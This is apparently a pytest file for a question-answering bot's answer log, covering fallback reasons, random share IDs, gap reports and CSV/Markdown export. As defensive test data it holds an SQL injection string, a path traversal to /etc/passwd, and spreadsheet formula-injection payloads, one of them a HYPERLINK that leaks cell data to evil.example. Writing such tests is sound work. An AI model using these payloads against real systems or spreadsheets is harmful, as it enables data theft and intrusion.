"""The answer log (share links, knowledge gaps) and `Answer.fallback`, which the gaps count (fast: fake embedder,
scripted models)."""

from __future__ import annotations

import csv
import io
import re
import threading
from pathlib import Path

import pytest
from fakes import ScriptedChat, passage_number
from helpers import capital_only

import bot.answer_log
from bot.answer import Answer, Answerer
from bot.answer_log import AnswerLog, Gap, gaps_csv, gaps_markdown, question_key
from bot.feedback import FeedbackStore
from bot.gate import Gate
from kb.errors import LLMError
from kb.knowledge_base import KnowledgeBase

OPEN = Gate(threshold=0.0)  # the fake embedder's similarities mean nothing: let every question through
SHUT = Gate(threshold=1.0)  # and nothing passes this one


def answer(question: str, refused: bool = False, fallback: str = "", lang: str = "zh") -> Answer:
    text = "来源未涉及。" if refused else "认证机构的注册资本不得少于人民币300万元 [1]。"
    return Answer(question, text, text, [], refused, lang, "none", fallback=fallback)


# ---- Answer.fallback: when the model's part gave way to the quoted evidence ------------------------------------


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (lambda m: f"A SABER certificate is needed [{passage_number(m, 'SABER')}].", ""),  # the model's answer stands
        (LLMError("connection refused by http://127.0.0.1:9/v1"), "llm_failed"),
        ("  \n", "llm_empty"),  # only whitespace (an empty stream is a failure)
        ("NOT_IN_KB", "model_refused"),
        ("I believe it is probably fine.", "ungrounded"),  # nothing tied to a source
    ],
    ids=["grounded", "failed", "empty", "model-refused", "ungrounded"],
)
def test_fallback_says_why_a_composing_model_gave_way_to_the_evidence(
    fake_kb: KnowledgeBase, reply: object, expected: str
) -> None:
    got = Answerer(fake_kb, ScriptedChat(replies=[reply]), "scripted", gate=OPEN).answer(
        "What does Saudi Arabia need？"
    )
    assert got.fallback == expected and not got.refused
    assert got.backend == ("scripted" if not expected else "none")


def test_fallback_of_a_translating_model_and_of_answers_without_one(fake_kb: KnowledgeBase, tmp_path: Path) -> None:
    question = "What registered capital does a certification body need?"  # the quote is Chinese: translate it
    capital = capital_only(tmp_path / "capital")  # fake_kb is in tmp_path / "kb"

    def translating(reply: object) -> Answer:
        return Answerer(capital, ScriptedChat(replies=[reply]), "local", gate=OPEN, role="translate").answer(question)

    good = "at least 3 million yuan of registered capital and 10 or more full-time staff"
    assert translating(lambda m: f"[1] {good}.").fallback == ""
    assert translating(lambda m: "[1] at least 30 million yuan.").fallback == "untranslated"  # it changed a figure
    assert translating(LLMError("timed out")).fallback == "llm_failed"
    # an English quote for an English asker needs no translation: the evidence is the answer, not a fallback
    english = Answerer(fake_kb, ScriptedChat(replies=["unused"]), "local", gate=OPEN, role="translate")
    assert english.answer("Which platform issues Saudi certificates?", filters={"lang": "en"}).fallback == ""
    assert Answerer(fake_kb, gate=OPEN).answer("认证机构的注册资本？").fallback == ""  # no model at all
    assert Answerer(fake_kb, gate=SHUT).answer("What is the capital of France?").fallback == ""  # a refusal


def test_answer_json_keeps_its_first_keys_and_ends_with_fallback_and_answer_id(fake_kb: KnowledgeBase) -> None:
    data = Answerer(fake_kb, gate=OPEN).answer("ISO 9001 证书有效期多久？").to_dict()
    assert list(data)[:5] == ["answer", "citations", "refused", "lang", "backend"]
    assert list(data)[-2:] == ["fallback", "answer_id"] and data["answer_id"] == ""


# ---- the log ---------------------------------------------------------------------------------------------------


def test_an_answer_comes_back_by_its_id_exactly_as_stored(tmp_path: Path, fake_kb: KnowledgeBase) -> None:
    log = AnswerLog(tmp_path / "answers.sqlite3")
    served = Answerer(fake_kb, gate=OPEN).answer("认证机构的注册资本（registered capital）要求是多少？")
    answer_id = log.add(served, client="10.0.0.7")
    assert re.fullmatch(r"[A-Za-z0-9_-]{12}", answer_id)
    stored = log.get(answer_id)
    assert stored is not None
    created = stored.pop("created")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", created)
    assert stored["answer_id"] == answer_id
    assert stored == {**served.to_dict(), "answer_id": answer_id}
    assert served.answer_id == ""  # the caller's answer is not changed
    reopened = AnswerLog(tmp_path / "answers.sqlite3")  # another process, or the next start
    assert reopened.get(answer_id) == {**stored, "created": created}


@pytest.mark.parametrize(
    "bad", ["", "short", "x" * 65, "' OR 1=1 --", "../../etc/passwd", "认证认证认证认证认证认证认证"]
)
def test_unknown_and_malformed_ids_are_none(tmp_path: Path, bad: str) -> None:
    log = AnswerLog(tmp_path / "answers.sqlite3")
    log.add(answer("认证机构的注册资本？"))
    assert log.get(bad) is None
    assert log.get("A" * 12) is None  # well formed, never given out


def test_ids_are_random_and_the_log_keeps_only_the_newest(tmp_path: Path) -> None:
    log = AnswerLog(tmp_path / "answers.sqlite3", max_rows=3)
    ids = [log.add(answer(f"第{n}个问题：CCC？")) for n in range(5)]
    assert len(set(ids)) == 5 and log.count() == 3
    assert [log.get(i) is not None for i in ids] == [False, False, True, True, True]
    assert log.get(ids[-1])["question"] == "第4个问题：CCC？"  # type: ignore[index]
    with pytest.raises(ValueError, match="at least 1"):
        AnswerLog(tmp_path / "other.sqlite3", max_rows=0)


def test_many_threads_add_at_once(tmp_path: Path) -> None:
    log = AnswerLog(tmp_path / "answers.sqlite3")
    ids: list[str] = []

    def ask(n: int) -> None:
        for i in range(20):
            ids.append(log.add(answer(f"Thread {n} asks: CE marking？ 第{i}问")))

    threads = [threading.Thread(target=ask, args=(n,)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(ids)) == 120 and log.count() == 120
    assert all(log.get(i) is not None for i in ids[::10])


def test_a_rebuild_keeps_the_log(tmp_path: Path, fake_kb: KnowledgeBase) -> None:
    log = AnswerLog(fake_kb.layout.answers)
    answer_id = log.add(answer("认证机构的注册资本？"))
    KnowledgeBase.remove(fake_kb.kb_dir)  # what a rebuild empties
    assert AnswerLog(fake_kb.layout.answers).get(answer_id) is not None


# ---- the gaps --------------------------------------------------------------------------------------------------


def test_question_key_folds_case_spacing_width_and_the_closing_mark() -> None:
    assert (
        question_key("认证机构的注册资本是多少？")
        == question_key(" 认证机构的注册资本是多少? ")
        == "认证机构的注册资本是多少"
    )
    assert (
        question_key("What is  CCC?")
        == question_key("ＷＨＡＴ　ｉｓ ｃｃｃ？")
        == question_key("what is ccc")
        == "what is ccc"
    )
    assert question_key("CE 和 CCC 有什么区别？") != question_key("CE 和 UKCA 有什么区别？")


def test_gaps_group_questions_count_each_reason_and_sort_by_total_then_date(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clock = iter(f"2026-11-{day:02d}T09:00:00Z" for day in range(1, 30))
    monkeypatch.setattr(bot.answer_log, "now_iso", lambda: next(clock))
    log = AnswerLog(tmp_path / "answers.sqlite3")
    feedback = FeedbackStore(tmp_path / "feedback.sqlite3")

    log.add(answer("What is the fee for CCC?", refused=True, lang="en"))  # 11-01
    log.add(answer("what is the fee for ccc", refused=True, lang="en"))  # 11-02, the same question
    fallback_id = log.add(answer("ＷＨＡＴ is the fee for CCC？", fallback="llm_failed", lang="en"))  # 11-03
    log.add(answer("What is the fee for CCC?", lang="en"))  # 11-04: answered well, not a gap
    log.add(answer("沙特认可中国检测报告吗？", fallback="ungrounded"))  # 11-05
    liked = log.add(answer("认证机构的注册资本是多少？"))  # 11-06, answered well...
    feedback.add("认证机构的注册资本是多少?", "不少于300万元 [1]", ["zh-capital"], "down", backend="none", lang="zh")
    feedback.add("认证机构的注册资本是多少？", "不少于300万元 [1]", ["zh-capital"], "up", backend="none", lang="zh")
    feedback.add("Is CE the same as UKCA?", "No [1]", [], "down")  # ...thumbs down on a question the log lacks

    gaps = log.gaps(feedback)
    fee = gaps[0]
    assert fee.question == "ＷＨＡＴ is the fee for CCC？"  # as last asked, of 3 events
    assert (fee.refused, fee.thumbs_down, fee.fallback, fee.total) == (2, 0, 1, 3)
    assert (fee.first, fee.last, fee.answer_id) == ("2026-11-01T09:00:00Z", "2026-11-03T09:00:00Z", fallback_id)
    by_question = {question_key(g.question): g for g in gaps}
    capital = by_question[question_key("认证机构的注册资本是多少")]
    assert (capital.thumbs_down, capital.total, capital.answer_id) == (1, 1, liked)  # the newest answer to it
    assert by_question[question_key("Is CE the same as UKCA?")].answer_id == ""
    saudi = by_question[question_key("沙特认可中国检测报告吗")]
    assert (saudi.fallback, saudi.total, saudi.last) == (1, 1, "2026-11-05T09:00:00Z")
    assert [g.total for g in gaps] == [3, 1, 1, 1]
    assert [g.last for g in gaps[1:]] == sorted((g.last for g in gaps[1:]), reverse=True)  # the most recent first
    without_feedback = log.gaps()
    assert [(g.question, g.total) for g in without_feedback] == [(fee.question, 3), (saudi.question, 1)]


def test_no_gaps_on_an_empty_log(tmp_path: Path) -> None:
    log = AnswerLog(tmp_path / "answers.sqlite3")
    assert log.gaps(FeedbackStore(tmp_path / "feedback.sqlite3")) == []
    assert gaps_csv([]) == "question,total,refused,thumbs_down,fallback,first,last,answer_id\n"
    assert gaps_markdown([]).count("\n") == 2


HOSTILE = [
    Gap('=HYPERLINK("http://evil.example/?"&A1,"点我")', 3, 0, 0, 3, "2026-11-01", "2026-11-02", "abcDEF123_-x"),
    Gap("+1+1", 0, 2, 0, 2, "2026-11-01", "2026-11-01", ""),
    Gap("-2+3 认证？", 0, 0, 1, 1, "2026-11-01", "2026-11-01", ""),
    Gap("@SUM(A1:A9)", 1, 0, 0, 1, "2026-11-01", "2026-11-01", ""),
    Gap("CE | UKCA：有什么区别？\n第二行, with a comma", 1, 0, 0, 1, "2026-11-01", "2026-11-01", ""),
]


def test_csv_has_a_header_and_cannot_run_formulas() -> None:
    rows = list(csv.reader(io.StringIO(gaps_csv(HOSTILE))))
    assert rows[0] == ["question", "total", "refused", "thumbs_down", "fallback", "first", "last", "answer_id"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert rows[1][0] == "'" + HOSTILE[0].question and rows[1][1:5] == ["3", "3", "0", "0"]
    assert rows[3][0] == "'-2+3 认证？" and rows[5][0] == HOSTILE[4].question  # Chinese, "|", newline, comma intact


def test_markdown_table_escapes_pipes_and_line_breaks() -> None:
    lines = gaps_markdown(HOSTILE).splitlines()
    assert len(lines) == 2 + len(HOSTILE)  # a question with a line break stays one row
    assert lines[-1].startswith("| CE \\| UKCA：有什么区别？<br>第二行, with a comma | 1 |")
    unescaped = [len(re.findall(r"(?<!\\)\|", line)) for line in lines]
    assert set(unescaped) == {9}  # every row has the header's eight cells
